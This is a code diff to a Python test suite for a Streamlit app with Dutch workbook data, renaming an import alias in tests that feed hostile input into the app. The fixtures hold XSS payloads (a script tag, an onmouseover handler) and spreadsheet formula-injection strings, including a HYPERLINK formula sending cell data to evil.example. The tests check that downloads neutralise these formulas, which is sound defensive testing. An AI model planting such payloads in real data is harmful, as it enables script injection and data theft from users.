@@ -20,7 +20,7 @@ from support import sample
 from support.browser import ROOT, browser, exception_texts, streamlit_server
 from tests import apptest
 from tests.screenshots import settle
-from workbook import contract as s
+from workbook import contract
 
 APP = str(ROOT / "app.py")
 SCRIPT = '<script>window.__pwned = "wat"</script>'
@@ -34,15 +34,17 @@ FORMULA_2 = '+HYPERLINK("https://evil.example/?q="&A1,"klik")'
 
 def hostile_data() -> dict:
     data = sample.sample_data()
-    actions = data[s.SHEET_ACTIONS]
-    actions[0][s.COL_WHAT] = f"Gelijkwaardig {SCRIPT} {IMAGE}"
+    actions = data[contract.SHEET_ACTIONS]
+    actions[0][contract.COL_WHAT] = f"Gelijkwaardig {SCRIPT} {IMAGE}"
     actions[0]["Voortgang najaar 2025"] = f"Zie {MD_LINK} of {HTML_LINK}."
     actions[2]["Voortgang najaar 2025"] = LONG
-    actions[1][s.COL_WHAT] = FORMULA
-    actions[1][s.COL_WHEN] = FORMULA_2
-    data[s.SHEET_GOALS][0][s.COL_TITLE] = "Gelijkwaardigheid <b onmouseover=\"window.__pwned='goal'\">vet</b>"
-    data[s.SHEET_BUDGET][0][s.COL_DESCRIPTION] = f"Totaal {IMAGE}"
-    data[s.SHEET_ROUNDS][1][s.COL_SOURCE] = f"Voortgangsbrief {MD_LINK}"
+    actions[1][contract.COL_WHAT] = FORMULA
+    actions[1][contract.COL_WHEN] = FORMULA_2
+    data[contract.SHEET_GOALS][0][contract.COL_TITLE] = (
+        "Gelijkwaardigheid <b onmouseover=\"window.__pwned='goal'\">vet</b>"
+    )
+    data[contract.SHEET_BUDGET][0][contract.COL_DESCRIPTION] = f"Totaal {IMAGE}"
+    data[contract.SHEET_ROUNDS][1][contract.COL_SOURCE] = f"Voortgangsbrief {MD_LINK}"
     return data
 
 
@@ -156,8 +158,8 @@ def test_downloads_of_hostile_text_cannot_run_formulas(hostile_app):
     xlsx_bytes, _ = apptest.download(at, "als Excel")
 
     rows = list(csv.reader(io.StringIO(csv_bytes.decode("utf-8-sig")), delimiter=";"))
-    what = {row[0]: row[rows[0].index(s.COL_WHAT)] for row in rows[1:]}
-    when = {row[0]: row[rows[0].index(s.COL_WHEN)] for row in rows[1:]}
+    what = {row[0]: row[rows[0].index(contract.COL_WHAT)] for row in rows[1:]}
+    when = {row[0]: row[rows[0].index(contract.COL_WHEN)] for row in rows[1:]}
     assert what["1.1-02"] == "'" + FORMULA and when["1.1-02"] == "'" + FORMULA_2  # shown as typed, never run
     assert what["1.1-01"].startswith("Gelijkwaardig <script>")  # other text unchanged
     assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
